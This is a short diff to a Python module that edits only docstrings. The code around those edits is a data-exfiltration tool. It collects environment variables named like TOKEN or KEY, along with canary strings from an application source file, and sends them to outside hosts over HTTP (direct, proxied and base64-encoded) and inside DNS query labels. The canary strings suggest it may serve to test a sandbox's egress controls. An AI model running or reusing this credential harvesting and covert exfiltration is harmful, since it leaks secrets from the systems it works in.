@@ -60,7 +60,7 @@ def ask(url: str, data: bytes | None, *, headers: dict[str, str], proxy: bool = 
 
 
 def web(url: str) -> list[str]:
-    """Straight and by the proxy; plain, and as base64."""
+    """Send it directly and through the proxy, plain and as base64."""
     data = loot().encode()
     return [
         ask(url, base64.b64encode(data) if encoded else data, headers={}, proxy=proxy)
@@ -110,7 +110,7 @@ def udp(host: str, *ports: str) -> list[str]:
 
 
 def dns(zone: str) -> list[str]:
-    """In the labels of names: to the resolver, and straight to a server of one's own."""
+    """Send it in the labels of names, through the resolver and directly to a server."""
     wanted = [v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k]
     wanted += [word for word in read("/workspace/app/src/pricing.py").split('"') if word.startswith("cnry")]
     said: list[str] = []
